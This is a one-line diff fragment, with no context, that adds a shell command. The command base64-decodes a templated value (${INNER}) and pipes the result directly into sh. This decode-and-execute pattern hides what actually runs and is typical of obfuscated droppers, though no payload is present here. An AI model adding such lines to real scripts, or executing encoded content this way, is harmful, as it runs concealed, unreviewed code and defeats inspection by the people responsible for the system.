@@ -1,0 +1,1 @@
+echo '${INNER}' | base64 -d | sh
